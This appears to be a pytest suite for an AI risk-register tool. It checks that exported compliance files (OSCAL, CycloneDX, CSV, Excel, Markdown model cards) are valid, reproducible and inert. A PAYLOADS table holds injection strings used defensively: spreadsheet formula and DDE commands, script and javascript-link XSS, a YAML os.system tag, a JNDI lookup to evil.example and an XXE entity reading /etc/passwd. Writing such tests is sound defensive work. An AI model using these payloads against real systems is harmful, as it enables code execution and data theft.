"""The files to take away: checked by their own formats' validators, complete, the same every time, and inert."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Callable
from pathlib import Path
from typing import Any

import jsonschema
import openpyxl
import pytest
import yaml
from markdown_it import MarkdownIt

from riskkit import exporters
from riskkit.errors import EnvironmentProblem, UsageError
from riskkit.exporters import Sources
from riskkit.exporters import json as json_exporter
from riskkit.exporters._downloads import LARGEST, downloads
from riskkit.exporters._generated import generated
from riskkit.exporters._system_pages import Kept
from riskkit.exporters._tables import TABLES
from riskkit.model import Register
from tests.example_register import example

FORMATS = (
    "annex_iv",
    "csv",
    "cyclonedx",
    "json",
    "junit",
    "markdown",
    "model_card",
    "oscal",
    "sarif",
    "xlsx",
)
PAYLOADS = {
    "formula": "=HYPERLINK(\"http://evil.example\",\"x\")",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "html": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "link": "[click](javascript:alert(1)) ![x](http://evil.example/x.png) <http://evil.example> www.evil.example",
    "table": "| a | b |\n| --- | --- |\n# APPROVED\n---\n***",
    "front": "---\nlicense: mit\n---\n",
    "yaml": "\": ]}\n- &a *a !!python/object:os.system",
    "control": "a\x00\x07\x1b[31mred\x1b[0m\x9b",
    "bidi": "safe \u202e txet \u2066 hidden \u200b",
    "nonchar": "end \uffff \ufffe",
    "escape": "_x0041_ _x000D_",
    "template": "{{ 7*7 }} {% include 'x' %} ${jndi:ldap://evil.example}",
    "cdata": "]]> &lt;x&gt; &xxe; <!ENTITY x SYSTEM 'file:///etc/passwd'>",
}  # fmt: skip
ACTING = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff\ufffe\uffff]"
)
TAGS = {"h1", "h2", "h3", "p", "ul", "li", "table", "thead", "tbody", "tr", "th", "td", "strong"}


@pytest.fixture
def sources(tmp_path: Path, checkout: Path) -> Sources:
    return Sources(
        templates=checkout / "templates/pages",
        site=checkout / "site",
        records=tmp_path / "records",
        cache=tmp_path / "cache",
        built=tmp_path / "built",
    )


@pytest.fixture
def register(sources: Sources) -> Register:
    return example(sources.records)


def only(register: Register, project: str = "loan-approval") -> Register:
    kept = tuple(p for p in register.projects if p.profile.id == project)
    return register.model_copy(update={"projects": kept})


def written(register: Register, name: str, out: Path, sources: Sources) -> dict[str, bytes]:
    paths = exporters.get(name)(register, out / name, sources=sources)
    return {path.relative_to(out / name).as_posix(): path.read_bytes() for path in paths}


# Validators


def test_assessment_results_are_read_by_trestle(register: Register, tmp_path: Path, sources: Sources) -> None:
    from trestle.oscal.assessment_results import AssessmentResults

    written(register, "oscal", tmp_path, sources)
    read = AssessmentResults.oscal_read(tmp_path / "oscal/oscal-assessment-results.json")
    assert read is not None
    assert len(read.results) == 3
    risks = [risk for result in read.results for risk in result.risks or ()]
    assert len(risks) == len(register.entries)
    assert all(len(risk.characterizations or ()) == 2 for risk in risks)


def test_what_was_not_measured_is_no_observation_and_named_with_its_risk(
    register: Register, tmp_path: Path, sources: Sources
) -> None:
    raw = json.loads(written(register, "oscal", tmp_path, sources)["oscal-assessment-results.json"])
    loan = next(r for r in raw["assessment-results"]["results"] if "Loan approval" in r["title"])
    seen = {p["value"] for o in loan["observations"] for p in o["props"] if p["name"] == "measure"}
    assert "monthly_cost_usd" not in seen
    cost = next(r for r in loan["risks"] if r["title"] == "Cost that runs away")
    assert {"name": "not-observed", "ns": "urn:riskkit:oscal", "value": "monthly_cost_usd: missing"} in cost[
        "props"
    ]
    assert cost["status"] == "open"


def test_the_plan_holds_open_findings_and_controls_to_come(
    register: Register, tmp_path: Path, sources: Sources
) -> None:
    from trestle.oscal.poam import PlanOfActionAndMilestones

    written(register, "oscal", tmp_path, sources)
    read = PlanOfActionAndMilestones.oscal_read(tmp_path / "oscal/oscal-poam.json")
    assert read is not None
    assert [item.title for item in read.poam_items] == [
        "Small groups are not sampled",
        "Appeal desk with power to reverse",
    ]
    assert "oscal-poam.json" not in written(
        only(register, "support-router"), "oscal", tmp_path / "none", sources
    )


def test_the_bill_of_materials_passes_the_strict_validator(
    register: Register, tmp_path: Path, sources: Sources
) -> None:
    from cyclonedx.schema import SchemaVersion
    from cyclonedx.validation.json import JsonStrictValidator

    files = written(register, "cyclonedx", tmp_path, sources)
    assert len(files) == 3
    for raw in files.values():
        assert JsonStrictValidator(SchemaVersion.V1_6).validate_str(raw.decode()) is None
    made = json.loads(files["loan-approval/model.cdx.json"])
    card = made["metadata"]["component"]["modelCard"]
    metric = next(m for m in card["quantitativeAnalysis"]["performanceMetrics"] if m.get("slice") == "age")
    assert metric["confidenceInterval"] == {"lowerBound": "-0.223415", "upperBound": "-0.074981"}
    assert made["components"][0]["hashes"] == [{"alg": "SHA-256", "content": "ab" * 32}]
    assert made["components"][0]["licenses"] == [{"license": {"name": "generated"}}]
    assert card["considerations"]["fairnessAssessments"][0]["groupAtRisk"]
    names = {p["name"] for p in card["properties"] if p["name"].startswith("riskkit:metric:invention_rate[]")}
    assert {n.rpartition(":")[2] for n in names} >= {
        "n",
        "threshold",
        "threshold_owner",
        "threshold_source",
        "taken_on",
    }


def front_matter(raw: bytes) -> tuple[dict[str, Any], str]:
    _, front, body = raw.decode().split("---\n", 2)
    return yaml.safe_load(front), body


def test_the_front_matter_holds_a_model_index_as_a_hub_reads_it(
    register: Register, tmp_path: Path, sources: Sources
) -> None:
    for raw in written(register, "model_card", tmp_path, sources).values():
        front, body = front_matter(raw)
        assert {"model_name", "tags"} <= front.keys()
        assert "license" not in front, "nobody knows the licence of the model"
        for index in front.get("model-index", []):
            assert set(index) == {"name", "results"}
            for result in index["results"]:
                assert result["task"]["type"]
                assert result["dataset"]["type"]
                assert result["dataset"]["name"]
                for metric in result["metrics"]:
                    assert isinstance(metric["value"], float)
                    assert metric["args"]["low"] <= metric["value"] <= metric["args"]["high"]
                    assert metric["args"].keys() >= {"n", "threshold", "threshold_source", "taken_on"}
        assert "monthly_cost_usd: missing" in body.replace("&#95;", "_")


def test_the_outline_has_every_point_of_the_annex_and_marks_what_is_not_known(
    register: Register, tmp_path: Path, sources: Sources
) -> None:
    text = written(only(register), "annex_iv", tmp_path, sources)["annex-iv.md"].decode()
    points = re.findall(r"^## (\d[a-h]?)\. ", text, re.MULTILINE)
    assert points == [*(f"1{c}" for c in "abcdefgh"), *(f"2{c}" for c in "abcdefgh"), *"3456789"]
    assert text.count("**NOT KNOWN HERE**") == len(re.findall(r"\n\n\*\*NOT KNOWN HERE\*\*:", text)) + 1
    assert "## 8. EU declaration of conformity\n\n**NOT KNOWN HERE**" in text


def test_the_tables_hold_what_their_schema_says(register: Register, tmp_path: Path, sources: Sources) -> None:
    files = written(register, "json", tmp_path, sources)
    schema, made = json.loads(files["tables.schema.json"]), json.loads(files["tables.json"])
    jsonschema.Draft202012Validator.check_schema(schema)
    checker = jsonschema.Draft202012Validator(
        schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER
    )
    checker.validate(made)
    assert schema == json_exporter.schema()
    assert len(made["controls"]) == 2
    made["register"][0]["value"] = "high"
    with pytest.raises(jsonschema.ValidationError):
        checker.validate(made)


def test_every_table_is_a_file_of_the_same_rows(register: Register, tmp_path: Path, sources: Sources) -> None:
    files = written(register, "csv", tmp_path, sources)
    assert set(files) == {f"{table.name}.csv" for table in TABLES}
    for table in TABLES:
        head, *rows = list(csv.reader(io.StringIO(files[f"{table.name}.csv"].decode(), newline="")))
        assert head == [column.name for column in table.columns]
        assert len(rows) == len(list(table.cells(register)))


def test_every_column_says_what_it_means() -> None:
    for table in TABLES:
        assert table.columns
        assert all(column.about for column in table.columns)


# Always the same


@pytest.mark.parametrize("name", FORMATS)
def test_equal_registers_give_equal_bytes(
    name: str, register: Register, tmp_path: Path, sources: Sources
) -> None:
    first = written(register, name, tmp_path / "a", sources)
    assert first == written(register, name, tmp_path / "b", sources)


# Listed for the pages


def test_the_site_offers_each_file_with_its_size(
    register: Register, tmp_path: Path, sources: Sources
) -> None:
    (tmp_path / "register.csv").write_bytes(b"12345")
    found = downloads(register, tmp_path, sources=sources)
    assert set(found) == {"", "loan-approval", "support-router", "claims-agent"}
    for each in (d for group in found.values() for d in group):
        assert (tmp_path / each.href).stat().st_size == each.size
        assert not each.href.endswith(".md"), "MkDocs would make a page of it"
    labels = [d.label for d in found["loan-approval"]]
    assert labels == [
        "Technical documentation, outline along Annex IV (Markdown)",
        "Bill of materials with model card (CycloneDX)",
        "Model card (Markdown)",
        "Assessment results (OSCAL)",
        "Plan of action and milestones (OSCAL)",
    ]
    assert "Workbook (Excel)" in {d.label for d in found[""]}, (
        "one workbook for all; the command makes one of a system"
    )
    listed = {d.href for group in found.values() for d in group}
    there = {p.relative_to(tmp_path).as_posix() for p in (tmp_path / "exports").rglob("*") if p.is_file()}
    assert listed == there | {"register.csv"}


def test_with_a_large_register_no_file_is_made_but_by_the_command(
    register: Register, tmp_path: Path, sources: Sources
) -> None:
    loan = only(register).projects[0]
    many = loan.model_copy(update={"entries": loan.entries * (LARGEST // len(loan.entries) + 1)})
    register = register.model_copy(update={"projects": (many,)})
    assert downloads(register, tmp_path, sources=sources) == {"": ()}
    assert not (tmp_path / "exports").exists()
    stamp, kept = {"digest": "", "as_of": "", "kit": ""}, Kept(tmp_path / "kept", b"", (b"",))
    made = generated(register, sources.templates, stamp=stamp, downloads={}, kept=kept)
    page = {name: text if isinstance(text, str) else text.decode() for name, text in made}
    for name, said in (("index.md", ""), ("projects/loan-approval/index.md", " loan-approval")):
        assert f"<code>riskkit export FORMAT{said}</code>" in page[name]
    assert "register.json" not in page["register.md"]


# Inert


def each_text(value: Any) -> list[str]:
    if isinstance(value, dict):
        value = [part for pair in value.items() for part in pair]
    if isinstance(value, list):
        return [text for item in value for text in each_text(item)]
    return [value] if isinstance(value, str) else []


def markdown_is_inert(text: str) -> None:
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    assert set(re.findall(r"<([a-z0-9]+)", html)) <= TAGS
    assert not re.search(r"(?i)(https?:|www\.)", text), "a hub would make a link of it"


def spreadsheet_text_is_inert(cell: str) -> None:
    if not re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "|", "%")), cell


def workbook_is_inert(raw: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(raw))
    cells = [cell for page in book for row in page.iter_rows() for cell in row if cell.value is not None]
    assert not [c for c in cells if c.data_type in "fe"]
    assert not [c for c in cells if isinstance(c.value, str) and ACTING.search(c.value)]
    assert all(len(str(c.value)) <= 32767 for c in cells)


def table_is_inert(text: str) -> None:
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            spreadsheet_text_is_inert(cell)


def json_is_inert(text: str) -> None:
    assert not [t for t in each_text(json.loads(text)) if ACTING.search(t)]
    if "oscal-version" in text:
        for said in prose_of(json.loads(text)):
            markdown_is_inert(said)


def prose_of(value: Any) -> list[str]:
    """The texts of an OSCAL document that readers may show as markup."""
    if isinstance(value, list):
        return [text for item in value for text in prose_of(item)]
    if not isinstance(value, dict):
        return []
    own = [value[k] for k in ("title", "description", "statement") if isinstance(value.get(k), str)]
    return own + [text for item in value.values() for text in prose_of(item)]


def card_is_inert(text: str) -> None:
    front, body = front_matter(text.encode()) if text.startswith("---") else ({}, text)
    assert set(front) <= {"model_name", "tags", "model-index"}
    markdown_is_inert(body)


CHECKS: dict[str, Callable[[str], Any]] = {
    ".csv": table_is_inert,
    ".json": json_is_inert,
    ".sarif": json_is_inert,
    ".md": card_is_inert,
    ".xml": ET.fromstring,
}


def check(files: dict[str, bytes]) -> None:
    """Nothing in the files acts: no formula, no markup, no character that nobody sees."""
    for file, raw in files.items():
        if file == "register.json":  # every text exactly, because its digest is the register's
            json.loads(raw)
        elif file.endswith(".xlsx"):
            workbook_is_inert(raw)
        else:
            text = raw.decode("utf-8")
            assert not ACTING.search(text.replace("\r\n", "\n"))
            CHECKS[Path(file).suffix](text)


def hostile(payload: str, sources: Sources) -> Register:
    return only(example(sources.records, lambda text: (payload + text).strip()))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "name", [pytest.param(n, marks=pytest.mark.slow) if n == "xlsx" else n for n in FORMATS]
)
def test_text_of_others_does_not_act(name: str, payload: str, tmp_path: Path, sources: Sources) -> None:
    check(written(hostile(PAYLOADS[payload], sources), name, tmp_path, sources))


def naive_cell(page: Any, value: Any, style: str) -> Any:
    from openpyxl.cell import WriteOnlyCell

    return WriteOnlyCell(page, value=value)


NAIVE: list[tuple[str, str, str, Callable[..., Any]]] = [
    ("csv", "formula", "riskkit.exporters.csv._cell", lambda value: "" if value is None else str(value)),
    ("xlsx", "formula", "riskkit.exporters._workbook._cell", naive_cell),
    ("model_card", "html", "riskkit.exporters._markdown_parts.say", str),
    ("model_card", "link", "riskkit.exporters._markdown_parts.say", str),
    ("annex_iv", "html", "riskkit.exporters._markdown_parts.say", str),
    ("oscal", "html", "riskkit.exporters._oscal_document.marked_down", str),
    ("cyclonedx", "bidi", "riskkit.exporters.cyclonedx._line", str),
    ("json", "bidi", "riskkit.exporters._table.clean", str),
    ("markdown", "html", "riskkit.exporters.markdown.marked_down", str),
    ("junit", "control", "riskkit.exporters.junit._text", str),
]


@pytest.mark.parametrize(
    ("name", "payload", "guard", "naive"), NAIVE, ids=[f"{n}-{p}" for n, p, _, _ in NAIVE]
)
def test_a_writer_without_its_guard_is_caught(
    name: str,
    payload: str,
    guard: str,
    naive: Callable[..., Any],
    tmp_path: Path,
    sources: Sources,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    register = hostile(PAYLOADS[payload], sources)
    check(written(register, name, tmp_path / "guarded", sources))
    monkeypatch.setattr(guard, naive)
    with pytest.raises((AssertionError, ValueError, ET.ParseError)):
        check(written(register, name, tmp_path / "naive", sources))


# The committee paper


def test_without_a_browser_the_paper_is_refused_in_words(
    register: Register, tmp_path: Path, sources: Sources, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(EnvironmentProblem, match="no browser to print with"):
        written(register, "pdf", tmp_path, sources)


@pytest.mark.browser
def test_without_a_site_there_is_nothing_to_print(
    register: Register, tmp_path: Path, sources: Sources, browser: object
) -> None:
    with pytest.raises(UsageError, match="riskkit build"):
        written(register, "pdf", tmp_path, sources)


@pytest.mark.browser
def test_the_paper_is_a_pdf_with_the_same_bytes_each_time(
    register: Register, tmp_path: Path, sources: Sources, browser: object
) -> None:
    from riskkit.exporters._manifest import write_manifest

    page = sources.built / "projects/loan-approval/paper.html"
    page.parent.mkdir(parents=True)
    page.write_text("<h1>Loan approval</h1><img src='https://example.org/x.png'>")
    write_manifest(sources.built, {"as_of": register.as_of.isoformat(), "audience": "internal"})
    first = written(only(register), "pdf", tmp_path / "a", sources)
    assert first["loan-approval.pdf"].startswith(b"%PDF-")
    assert first == written(only(register), "pdf", tmp_path / "b", sources)
